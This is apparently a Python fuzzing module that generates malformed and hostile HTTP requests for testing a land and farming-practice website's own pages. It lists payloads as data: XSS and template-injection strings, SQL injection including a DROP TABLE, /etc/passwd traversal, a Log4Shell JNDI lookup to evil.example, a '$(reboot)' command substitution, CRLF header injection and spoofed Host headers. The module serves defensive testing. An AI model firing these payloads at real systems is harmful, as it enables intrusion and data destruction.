"""Requests that no friendly browser sends, the same for the same seed."""

import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from urllib.parse import quote

from readers.request_land import LAND_PARAMETERS
from readers.results_query import parameter
from search.engines.base import FACETS
from zones.vocabulary import LANGUAGES

# Where one of these stands unescaped in an answer, what was sent got out of its quotes or became markup.
MARKS = ("<zzmark", '"zzmark', "'zzmark")

STRINGS: tuple[str, ...] = (
    "<zzmark onerror=alert(1)>",
    '"zzmark="1" autofocus onfocus=alert(1)',
    "'zzmark='1' onmouseover=alert(1)",
    "`zzmark`${alert(1)}",
    "</title></style></textarea></script><zzmark>",
    "<!--<zzmark-->",
    'javascript:alert(1)//"zzmark',
    "data:text/html,<zzmark>",
    "//evil.example/%2f..",
    "https://evil.example/?<zzmark",
    "\\\\evil.example\\share",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "\x00",
    "sandy\x00<zzmark",
    "\r\nSet-Cookie: zzmark=1\r\n\r\n<zzmark>",
    "' OR 1=1 --",
    "1; DROP TABLE wagtailcore_page; --",
    "{{ 7*7 }}{% debug %}<zzmark",
    "${jndi:ldap://evil.example/a}",
    "$(reboot)`reboot`",
    "title:(a OR b) AND NOT c^5~2 [1 TO *]",
    '"unbalanced (quote AND [',
    "*" * 200,
    "?" * 50 + "*:*",
    "/.*(a+)+$/",
    "a" * 10_000,
    "é" * 10_000,
    "( " * 3000,
    "the of and le la les el los",
    "999999999999",
    "1000000000",
    "-1",
    "1e309",
    "NaN",
    "٣٤",
    "\u202egnp.exe\u2066",
    "Z\u0351\u036b\u0343a\u0317\u0322l\u0326" * 40,
    "👩🏽‍🌾" * 60,
    "Ð¿Ñ€Ð¸Ð²ÐµÑ‚ 你好 γειά שלום",
)
# Sent as they stand: broken escapes and bytes that are no text.
RAW = (
    "%",
    "%zz",
    "%00",
    "%ff%fe",
    "%ed%a0%80",
    "%c0%af",
    "+",
    "&&==&",
    "%u003czzmark",
    ";a=b;",
    "a[]=1&a[b]=2",
)

PAGE_PARAMETERS = (*(parameter(name) for name in FACETS), "q", "sort", "page")
FORM_PARAMETERS = ("place_typed", "go", "part", "map.x", "map.y")
# Web servers refuse longer addresses, most of them much shorter ones.
LONGEST_QUERY = 100_000
# These end the reading of an address, so each has to come alone.
DECIDING = ("place", "place_name", "place_typed", "page", "map.x", "step", "go")
METHODS = ("GET",) * 40 + (
    "HEAD",
    "HEAD",
    "HEAD",
    "POST",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
)
HEADERS: tuple[tuple[str, Sequence[str]], ...] = (
    ("accept-encoding", ("br;q=x", "gzip;q=0, br;q=", "\x01", ",;=," * 500, "*;q=0", "identity;q=0")),
    ("accept-language", ("fr," * 3400, "xx-" * 3000, "en;q=nan", "*", "zh-Hant-" + "x" * 9000, ";;;,,,")),
    ("if-none-match", ("*", "zzmark", '"a", W/"b', '"' * 5000, 'W/""')),
    ("if-modified-since", ("yesterday", "Thu, 99 Foo 9999 99:99:99 GMT", "-1")),
    ("range", ("bytes=0-0,1-1", "bytes=-", "lines=1")),
    (
        "cookie",
        ("sessionid=<zzmark", "sessionid=" + "a" * 5000, "csrftoken='zzmark; django_language=xx", "=;="),
    ),
    ("content-type", ("multipart/form-data", "multipart/form-data; boundary=\x7f", "text/<zzmark")),
    ("host", ("evil.example", "testserver@evil.example", "<zzmark", "[::1", "")),
    ("x-forwarded-host", ("evil.example",)),
    ("referer", ("https://evil.example/<zzmark", "\x00")),
)
WRONG_PREFIXES = ("de", "EN", "fr-ca", "en-", "xx", "e%6e", "en%00", "..", "")


@dataclass(frozen=True, slots=True)
class Attempt:
    path: str
    query: str = ""
    method: str = "GET"
    headers: dict[str, str] = field(default_factory=dict)
    body: str = ""

    def __str__(self) -> str:
        headers = {name: value[:80] for name, value in self.headers.items()}
        return f"{self.method} {headers} {self.path[:200]}?{self.query[:400]}"


def paths_and_parameters(section: str, practice: str, plain: str, zone: str) -> dict[str, tuple[str, ...]]:
    """Below a language's prefix: each public address and what it reads."""
    land = tuple(sorted(LAND_PARAMETERS))
    return {
        "": land,
        "practices/": land + PAGE_PARAMETERS,
        "practices/words.json": ("q",),
        "land/": land + FORM_PARAMETERS,
        "land/map/world.svg": ("part",),
        "land/questions/": (*land, "step"),
        "countries/": (*land, "continent", "with"),
        "countries/bj/": land,
        "dashboard/": land,
        f"zones/{zone}/": land,
        f"zones/{zone}/map.svg": (),
        "what-did-not-work/": land,
        f"{section}/": land,
        f"{section}/{practice}/": land,
        f"{plain}/": land,
    }


def _pair(name: str, value: str) -> str:
    return f"{quote(name, safe='')}={quote(value, safe='')}"


def every_parameter(public: dict[str, tuple[str, ...]]) -> Iterator[Attempt]:
    """Every string in every parameter of every address in every language; together where they can be."""
    for language in LANGUAGES:
        for path, parameters in public.items():
            for string in STRINGS:
                together = [_pair(name, string) for name in parameters if name not in DECIDING]
                queries = ["&".join(together)] if together else []
                queries += [_pair(name, string) for name in parameters if name in DECIDING]
                for query in queries:
                    yield Attempt(f"/{language}/{path}", query)


def at_random(public: dict[str, tuple[str, ...]], count: int, seed: int) -> Iterator[Attempt]:
    dice = random.Random(seed)
    for _number in range(count):
        path = dice.choice(list(public))
        known = public[path] or ("unknown",)
        names = [
            dice.choice(known) if dice.random() < 0.9 else dice.choice((*STRINGS, "unknown", "page"))
            for _ in range(dice.choice((0, 1, 1, 1, 2, 3, 8)))
        ]
        pairs = [_pair(name, dice.choice(STRINGS)) for name in names]
        if pairs and dice.random() < 0.2:
            pairs += [dice.choice(pairs)] * dice.choice((1, 5, 200))
        if dice.random() < 0.15:
            pairs.append(f"{dice.choice(known)}={dice.choice(RAW)}")
        if dice.random() < 0.3:
            pairs += dice.choice((["lat=9.8", "lon=1.5"], ["texture=sandy", "crops=maize"], ["q=maize"]))
        query = "&".join(pairs)[:LONGEST_QUERY]
        attempt = Attempt(f"/{dice.choice(LANGUAGES)}/{path}", query, dice.choice(METHODS))
        yield _elsewhere(dice, attempt)


def _elsewhere(dice: random.Random, attempt: Attempt) -> Attempt:
    """Sometimes with a broken path, odd headers or a body."""
    if dice.random() < 0.12:
        attempt = replace(attempt, path=_broken_path(dice, attempt.path))
    if dice.random() < 0.2:
        chosen = dice.sample(HEADERS, dice.choice((1, 1, 2)))
        attempt = replace(attempt, headers={name: dice.choice(values) for name, values in chosen})
    if attempt.method in ("POST", "PUT", "PATCH"):
        attempt = replace(attempt, body=dice.choice((*STRINGS, attempt.query)))
    return attempt


def _broken_path(dice: random.Random, path: str) -> str:
    string = quote(dice.choice(STRINGS)[:2000], safe=dice.choice(("", "/")))
    _, language, rest = path.split("/", 2)
    return dice.choice(
        (
            f"/{dice.choice(WRONG_PREFIXES)}/{rest}",
            f"/{language}/{string}/",
            f"/{language}/{rest}{string}/",
            f"/{language}/zones/{string}/",
            f"/{language}/land/map/{string}.svg",
            f"/{language}/{dice.choice(RAW)}/",
            f"/{string}",
            f"/{rest}",
            f"/{language}//{rest}",
            path.rstrip("/") or "/",
            f"/documents/1/{string}",
            f"/media/{string}",
            f"/static/{string}",
            "/sitemap.xml",
            "/robots.txt",
            "/health/live",
            "/health/ready",
            "/api/v1/",
            "/admin/login/",
        )
    )
